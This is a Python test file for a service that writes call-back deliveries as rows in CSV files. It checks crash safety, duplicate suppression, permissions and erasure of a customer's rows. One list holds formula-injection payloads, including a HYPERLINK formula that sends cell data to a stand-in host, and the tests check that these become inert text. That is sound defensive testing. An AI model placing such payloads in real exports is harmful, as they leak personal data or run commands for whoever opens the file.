"""Lists on a real disk: a row for each delivery, once, whatever breaks; nothing in it is run."""

import asyncio
import csv
import errno
import os
import stat
from dataclasses import replace
from datetime import timedelta
from io import StringIO
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from services.dispatcher.calls.calls import ActionCall, Carrier, Deletion, Verdict
from services.dispatcher.platforms.file.rows import columns
from tests.builders import platforms
from tests.builders.lists import files, folder, list_carrier, modes, read
from tests.builders.platforms import CUSTOMER, DELIVERY, NOW, person

BUDGET = timedelta(seconds=20)
CALL = replace(
    platforms.ACTION,
    channel="call",
    contact_class="asked_for",
    identifiers=person(email="jane@example.com", phone="+33612345678", external_id="C-1"),
    attributes={"first_name": "Jane", "nps_comment": "Trop cher, rappelez-moi"},
    context={"signed_by": "Zoé Martin", "reason": "call-back"},
)
TODAY = "calls-2026-11-21.csv"
OTHER = UUID("0b7ab0a3-3b1c-5d53-8d0c-9d6f9f1c2a99")


async def act(place: Path, call: ActionCall = CALL, **changes: Any) -> Verdict:
    """Put one delivery on the list."""
    carrier: Carrier = list_carrier(place, **changes)
    return await carrier.act(call, budget=BUDGET, now=NOW)


def another(number: int, **changes: Any) -> ActionCall:
    """Make another delivery."""
    return replace(CALL, delivery_id=UUID(int=DELIVERY.int + number), **changes)


async def test_a_delivery_is_a_row(tmp_path: Path) -> None:
    """With our own columns, the target's, and what the play says."""
    verdict = await act(tmp_path)
    assert verdict == Verdict("accepted", f"written in {TODAY}", reference=TODAY)
    (row,) = read(tmp_path / TODAY)
    assert tuple(row) == columns(["first_name", "comment"])
    assert row == {
        "delivery_id": str(DELIVERY),
        "customer_id": str(CUSTOMER),
        "written_at": "2026-11-21T20:00:00.000000Z",
        "do_before": "2026-11-22T20:05:00.000000Z",
        "channel": "call",
        "action": "reassurance",
        "variant": "price",
        "template": "reassurance_price",
        "external_id": "C-1",
        "phone": "+33612345678",
        "first_name": "Jane",
        "comment": "Trop cher, rappelez-moi",
        "notes": "signed by: Zoé Martin; reason: call-back",
    }


async def test_only_the_owner_may_read_it(tmp_path: Path) -> None:
    """Personal data lies there in the clear."""
    await act(tmp_path)
    assert modes(tmp_path) == {TODAY: 0o600, ".calls.notes": 0o600, ".calls.lock": 0o600}


async def test_who_posts_a_letter_needs_no_number(tmp_path: Path) -> None:
    """What a channel does not need is not told."""
    await act(tmp_path, replace(CALL, channel="post"))
    (row,) = read(tmp_path / TODAY)
    assert row["phone"] == ""


async def test_the_same_delivery_is_one_row(tmp_path: Path) -> None:
    """A repeat finds it there, by whichever process."""
    await act(tmp_path)
    verdict = await act(tmp_path)
    assert verdict == Verdict("accepted", f"there in {TODAY}", reference=TODAY)
    assert len(read(tmp_path / TODAY)) == 1


async def test_many_at_once_by_two_processes_are_all_there_once(tmp_path: Path) -> None:
    """Each delivery is tried by both, in turns that nobody orders."""
    carriers = [list_carrier(tmp_path), list_carrier(tmp_path)]
    await asyncio.gather(
        *(
            carrier.act(another(number), budget=BUDGET, now=NOW)
            for number in range(20)
            for carrier in carriers
        )
    )
    rows = read(tmp_path / TODAY)
    assert sorted(row["delivery_id"] for row in rows) == sorted(
        str(another(number).delivery_id) for number in range(20)
    )


async def test_a_kill_between_note_and_row_is_healed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The note stands, the row does not: it is written now, once."""
    await act(tmp_path, another(1))
    whole = (tmp_path / TODAY).read_bytes()
    await act(tmp_path)
    (tmp_path / TODAY).write_bytes(whole)
    assert (await act(tmp_path)).reason == f"written in {TODAY}"
    assert len(read(tmp_path / TODAY)) == 2


async def test_half_a_row_is_cut_off(tmp_path: Path) -> None:
    """A kill in the middle of writing leaves no row that nobody can read."""
    await act(tmp_path)
    content = (tmp_path / TODAY).read_bytes()
    (tmp_path / TODAY).write_bytes(content[:-20])
    assert (await act(tmp_path)).reason == f"written in {TODAY}"
    assert (tmp_path / TODAY).read_bytes() == content


async def test_half_a_note_is_no_note(tmp_path: Path) -> None:
    """Nobody was told of it; the next one stands whole."""
    await act(tmp_path, another(1))
    with (tmp_path / ".calls.notes").open("ab") as notes:
        notes.write(str(DELIVERY).encode()[:20])
    await act(tmp_path)
    await act(tmp_path)
    assert len(read(tmp_path / TODAY)) == 2


@pytest.mark.parametrize("fails", ["write", "fsync"])
async def test_a_full_disk_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fails: str
) -> None:
    """The row is tried again, and stands there once."""
    await act(tmp_path, another(1))
    target = list_carrier(tmp_path)
    real_write, real_fsync, broken = os.write, os.fsync, [True]

    def half(handle: int, data: bytes) -> int:
        return real_write(handle, data[:30]) if broken[0] else real_write(handle, data)

    def refuses(handle: int) -> None:
        if broken[0] and stat.S_ISREG(os.fstat(handle).st_mode) and os.fstat(handle).st_size > 700:
            broken[0] = False
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(handle)

    if fails == "write":
        monkeypatch.setattr("services.dispatcher.platforms.file.folder.os.write", half)
    else:
        monkeypatch.setattr("services.dispatcher.platforms.file.folder.os.fsync", refuses)
    verdict = await target.act(CALL, budget=BUDGET, now=NOW)
    assert verdict.outcome == "retry"
    assert str(tmp_path) not in verdict.reason
    assert len(read(tmp_path / TODAY)) == 1
    broken[0] = False
    assert (await target.act(CALL, budget=BUDGET, now=NOW)).outcome == "accepted"
    assert len(read(tmp_path / TODAY)) == 2


async def test_a_file_that_was_taken_away_is_not_begun_again(tmp_path: Path) -> None:
    """What comes after goes to another name, so that nothing is overwritten where it went."""
    await act(tmp_path)
    (tmp_path / TODAY).rename(tmp_path / "taken.csv")
    assert (await act(tmp_path, another(1))).reference == "calls-2026-11-21-2.csv"
    assert (await act(tmp_path, another(2))).reference == "calls-2026-11-21-2.csv"


async def test_a_row_of_a_file_that_was_taken_away_is_not_written_twice(tmp_path: Path) -> None:
    """It may have been there: a person looks."""
    await act(tmp_path)
    (tmp_path / TODAY).unlink()
    verdict = await act(tmp_path)
    assert verdict.outcome == "park"
    assert files(tmp_path, "*.csv") == {}


async def test_other_columns_are_another_file(tmp_path: Path) -> None:
    """A new configuration at noon: no row stands under somebody else's header."""
    await act(tmp_path)
    other = {"columns": columns(["first_name"])}
    assert (await act(tmp_path, another(1), **other)).reference == "calls-2026-11-21-2.csv"


async def test_a_day_begins_in_its_zone(tmp_path: Path) -> None:
    """20:00 in London is tomorrow in Tokyo."""
    verdict = await act(tmp_path, zone="Asia/Tokyo")
    assert verdict.reference == "calls-2026-11-22.csv"


async def test_excel_reads_it(tmp_path: Path) -> None:
    """With a byte order mark and semicolons, once at the top."""
    await act(tmp_path, delimiter=";", bom=True)
    await act(tmp_path, another(1), delimiter=";", bom=True)
    content = (tmp_path / TODAY).read_bytes()
    assert content.startswith(b'\xef\xbb\xbf"delivery_id";"customer_id"')
    assert content.count(b"\xef\xbb\xbf") == 1
    assert len(read(tmp_path / TODAY, ";")) == 2


HOSTILE = [
    '=HYPERLINK("https://bad.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "|calc",
    '"; "=1+1',
    'a"\r\n"=1+1","x',
    "\x00=1",
    "\u2028=1",
    "a,b;c\td",
    "\ud800",
]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
async def test_hostile_values_are_only_text(tmp_path: Path, value: str, delimiter: str) -> None:
    """No formula, no column, no row more."""
    call = replace(CALL, attributes={"first_name": value, "nps_comment": value})
    assert (await act(tmp_path, call, delimiter=delimiter)).outcome == "accepted"
    lines = (tmp_path / TODAY).read_bytes().decode().splitlines()
    assert len(lines) == 2
    header, row = csv.reader(StringIO("\n".join(lines)), delimiter=delimiter, strict=True)
    assert len(row) == len(header)
    assert not any(cell.startswith(("=", "-", "@", "|", "\t", "\r")) for cell in row)
    assert [cell for cell in row if cell.startswith("+")] == ["+33612345678"]


async def test_erasing_somebody_takes_her_rows_out(tmp_path: Path) -> None:
    """Of all files that are still here; the others stay as they were."""
    target = list_carrier(tmp_path)
    await target.act(another(1), budget=BUDGET, now=NOW)
    await target.act(another(2, customer_id=OTHER), budget=BUDGET, now=NOW)
    later = NOW + timedelta(days=1)
    await target.act(another(3), budget=BUDGET, now=later)
    deletion = Deletion(message_id="m", customer_id=CUSTOMER, identifiers=())
    verdict = await target.erase(deletion, budget=BUDGET, now=NOW)
    assert verdict.outcome == "ok"
    assert verdict.reason.startswith("2 rows removed from 2 files")
    assert [row["customer_id"] for row in read(tmp_path / TODAY)] == [str(OTHER)]
    assert read(tmp_path / "calls-2026-11-22.csv") == []
    content = b"".join(files(tmp_path).values())
    assert str(CUSTOMER).encode() not in content
    assert modes(tmp_path)[TODAY] == 0o600


async def test_erasing_leaves_other_peoples_files_alone(tmp_path: Path) -> None:
    """Files of other targets, and whatever else lies there."""
    (tmp_path / "calls-notes.csv").write_text(str(CUSTOMER))
    (tmp_path / "post-2026-11-21.csv").write_text(str(CUSTOMER))
    deletion = Deletion(message_id="m", customer_id=CUSTOMER, identifiers=())
    verdict = await list_carrier(tmp_path).erase(deletion, budget=BUDGET, now=NOW)
    assert verdict.reason.startswith("0 rows removed from 0 files")
    assert (tmp_path / "calls-notes.csv").read_text() == str(CUSTOMER)


async def test_another_process_that_holds_the_folder_is_waited_for_only_so_long(
    tmp_path: Path,
) -> None:
    """Then the row is tried again later."""
    with folder(tmp_path).alone(1):
        verdict = await list_carrier(tmp_path).act(CALL, budget=timedelta(seconds=5), now=NOW)
    assert verdict == Verdict("retry", "another process holds the folder")


@pytest.mark.parametrize(
    ("changes", "outcome"),
    [
        pytest.param({"contact_class": "internal"}, "reject", id="an alert"),
        pytest.param({"channel": "email"}, "reject", id="not a channel of lists"),
        pytest.param({"identifiers": person(email="jane@example.com")}, "reject", id="no number"),
        pytest.param({"deadline": NOW}, "retry", id="too late"),
    ],
)
async def test_what_cannot_be_listed_is_told(
    tmp_path: Path, changes: dict[str, Any], outcome: str
) -> None:
    """And nothing is written."""
    assert (await act(tmp_path, replace(CALL, **changes))).outcome == outcome
    assert files(tmp_path) == {}


async def test_a_folder_that_is_gone_is_tried_again(tmp_path: Path) -> None:
    """A disk that was not mounted comes back; no path is told."""
    verdict = await act(tmp_path / "gone")
    assert verdict == Verdict("retry", "the disk refuses: No such file or directory")
